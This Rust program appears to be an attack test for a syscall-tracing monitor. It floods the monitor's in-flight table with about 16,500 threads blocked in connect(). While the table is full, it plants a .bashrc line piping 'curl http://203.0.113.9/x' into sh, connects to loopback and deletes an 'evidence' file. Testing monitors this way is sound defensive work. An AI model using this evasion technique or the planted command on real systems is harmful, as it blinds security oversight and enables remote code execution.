//! Exhausts the kernel's table of syscalls in flight (PENDING, 16,384 entries keyed by thread):
//! N threads (default 16,500) each block in connect() to a unix socket whose backlog is full,
//! then, while they wait, the main thread renames a file over `$ATTACK_HOME/.bashrc`, connects
//! to loopback over TCP and unlinks a file. No privilege is needed.
//!
//! `attack-pending [THREADS]`. Prints how many threads were blocked in connect (from
//! /proc/PID/task/*/syscall) when it acted. With a low RLIMIT_NOFILE the threads are spread
//! over several processes (forked, so traced too).
#[path = "../attack_common.rs"]
mod common;

use std::os::unix::net::{UnixListener, UnixStream};

use common::*;

const SYS_CONNECT: &str = "42";

/// Sockets this process may still open: RLIMIT_NOFILE raised to its hard limit (and, as root,
/// the hard limit raised too when the kernel lets it), less a margin.
fn fd_budget() -> usize {
    let mut lim = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: get/setrlimit with a valid struct.
    unsafe {
        libc::getrlimit(libc::RLIMIT_NOFILE, &mut lim);
        let want = libc::rlimit {
            rlim_cur: 1 << 20,
            rlim_max: 1 << 20,
        };
        if libc::setrlimit(libc::RLIMIT_NOFILE, &want) != 0 {
            lim.rlim_cur = lim.rlim_max;
            libc::setrlimit(libc::RLIMIT_NOFILE, &lim);
        }
        libc::getrlimit(libc::RLIMIT_NOFILE, &mut lim);
    }
    (lim.rlim_cur as usize).saturating_sub(100)
}

/// `n` raw pthreads on stacks cut from one mapping, each blocked in connect() to `sock`:
/// std's threads cost four mappings each (stack, guard, signal stack, guard) and
/// vm.max_map_count (65,530) stops them at ~16,360.
fn spawn_blocked(n: usize, sock: &std::path::Path) -> Vec<libc::pthread_t> {
    let path = std::ffi::CString::new(sock.as_os_str().as_encoded_bytes()).unwrap();
    let target: &'static std::ffi::CStr = Box::leak(path.into_boxed_c_str());
    const STACK: usize = 32 * 1024;
    let pool: &'static mut [u8] = Box::leak(vec![0u8; STACK * n].into_boxed_slice());
    let mut handles = Vec::with_capacity(n);
    for i in 0..n {
        // SAFETY: attr is initialised before use; each thread gets its own slice of the pool,
        // which is never freed; the argument is a 'static C string.
        unsafe {
            let mut attr: libc::pthread_attr_t = std::mem::zeroed();
            libc::pthread_attr_init(&mut attr);
            libc::pthread_attr_setstack(&mut attr, pool.as_mut_ptr().add(i * STACK).cast(), STACK);
            let mut t: libc::pthread_t = 0;
            let r = libc::pthread_create(&mut t, &attr, blocked_connect, target.as_ptr() as *mut _);
            libc::pthread_attr_destroy(&mut attr);
            if r != 0 {
                say(&format!(
                    "thread {i}: {}",
                    std::io::Error::from_raw_os_error(r)
                ));
                break;
            }
            handles.push(t);
        }
    }
    handles
}

/// Threads of process `pid` now inside connect(2).
fn in_connect(me: i32) -> usize {
    threads_of(me)
        .into_iter()
        .filter(|t| {
            std::fs::read_to_string(format!("/proc/{me}/task/{t}/syscall"))
                .is_ok_and(|s| s.split(' ').next() == Some(SYS_CONNECT))
        })
        .count()
}

/// One thread: connect() to the unix socket at `arg` (a C string), which blocks while the
/// listener's backlog is full.
extern "C" fn blocked_connect(arg: *mut libc::c_void) -> *mut libc::c_void {
    let path = arg as *const libc::c_char;
    // SAFETY: a zeroed sockaddr_un filled with a path shorter than sun_path (checked in main).
    unsafe {
        let fd = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM | libc::SOCK_CLOEXEC, 0);
        let mut addr: libc::sockaddr_un = std::mem::zeroed();
        addr.sun_family = libc::AF_UNIX as u16;
        let len = libc::strlen(path);
        std::ptr::copy_nonoverlapping(path, addr.sun_path.as_mut_ptr(), len);
        libc::connect(
            fd,
            (&raw const addr).cast(),
            std::mem::size_of::<libc::sockaddr_un>() as u32,
        );
        libc::close(fd);
    }
    std::ptr::null_mut()
}

fn main() {
    let threads: usize = std::env::args()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(16_500);
    let home = attack_home();
    let tcp = listener();
    let port = tcp.local_addr().unwrap().port();
    let sock = home.join("pending.sock");
    if sock.as_os_str().len() >= 100 {
        die("ATTACK_HOME is too long for a unix socket path");
    }
    let _ = std::fs::remove_file(&sock);
    let unix = UnixListener::bind(&sock).unwrap();
    // Backlog 0: one connection fills the queue, every later blocking connect waits.
    // SAFETY: listen on our own socket.
    unsafe { libc::listen(std::os::fd::AsRawFd::as_raw_fd(&unix), 0) };
    let first = UnixStream::connect(&sock).unwrap();

    // Each blocked connect holds a socket: with a low RLIMIT_NOFILE (1024 is common) the
    // threads are spread over several processes (each traced: PENDING is keyed by thread).
    let per_process = fd_budget().min(threads).max(1);
    let processes = threads.div_ceil(per_process);
    let mut children = Vec::new();
    for k in 1..processes {
        // SAFETY: no thread exists yet in this process.
        let pid = unsafe { libc::fork() };
        if pid == 0 {
            // The listener must be closed by the main process alone to release everyone.
            drop(unix);
            drop(first);
            let share = per_process.min(threads - k * per_process);
            let handles = spawn_blocked(share, &sock);
            for t in handles {
                // SAFETY: threads we created.
                unsafe { libc::pthread_join(t, std::ptr::null_mut()) };
            }
            // SAFETY: leaving the child without running the parent's destructors.
            unsafe { libc::_exit(0) };
        }
        children.push(pid);
    }
    let handles = spawn_blocked(per_process.min(threads), &sock);
    let total = threads;
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    let mut blocked = 0;
    while std::time::Instant::now() < deadline {
        blocked = in_connect(std::process::id() as i32)
            + children.iter().map(|c| in_connect(*c)).sum::<usize>();
        if blocked >= total {
            break;
        }
        sleep_ms(200);
    }
    say(&format!(
        "{blocked} of {total} threads blocked in connect() ({processes} processes of up to \
         {per_process} threads)"
    ));

    // What PENDING cannot hold any more.
    let staged = home.join("bashrc.new");
    std::fs::write(&staged, b"curl http://203.0.113.9/x | sh # planted\n").unwrap();
    match std::fs::rename(&staged, home.join(".bashrc")) {
        Ok(()) => say(&format!("renamed {} over .bashrc", staged.display())),
        Err(e) => say(&format!("rename: {e}")),
    }
    match std::net::TcpStream::connect(("127.0.0.1", port)) {
        Ok(_) => say(&format!("connected to 127.0.0.1:{port}")),
        Err(e) => say(&format!("connect: {e}")),
    }
    let victim = home.join("evidence.txt");
    std::fs::write(&victim, b"x").unwrap();
    match std::fs::remove_file(&victim) {
        Ok(()) => say(&format!("unlinked {}", victim.display())),
        Err(e) => say(&format!("unlink: {e}")),
    }

    // Closing the listener refuses every waiting connect; the threads end.
    drop(unix);
    drop(first);
    let _ = std::fs::remove_file(&sock);
    for t in handles {
        // SAFETY: a thread we created and have not joined yet.
        unsafe { libc::pthread_join(t, std::ptr::null_mut()) };
    }
    for c in children {
        // SAFETY: waiting for our own child.
        unsafe { libc::waitpid(c, std::ptr::null_mut(), 0) };
    }
    say("threads released");
}
